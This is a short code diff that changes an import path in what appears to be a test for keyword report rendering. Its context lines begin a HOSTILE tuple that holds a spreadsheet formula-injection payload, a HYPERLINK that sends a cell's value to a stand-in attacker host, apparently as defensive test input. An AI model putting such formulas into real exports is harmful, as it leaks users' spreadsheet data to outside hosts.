@@ -15,7 +15,7 @@ from koe.errors import SetupError
 from koe.keywords import Keyword, KeywordQuote, KeywordReport, render
 from koe.keywords.render import FORMATS
 from koe.keywords.words import EN, JA
-from koe.text import Language
+from koe.language.text import Language
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
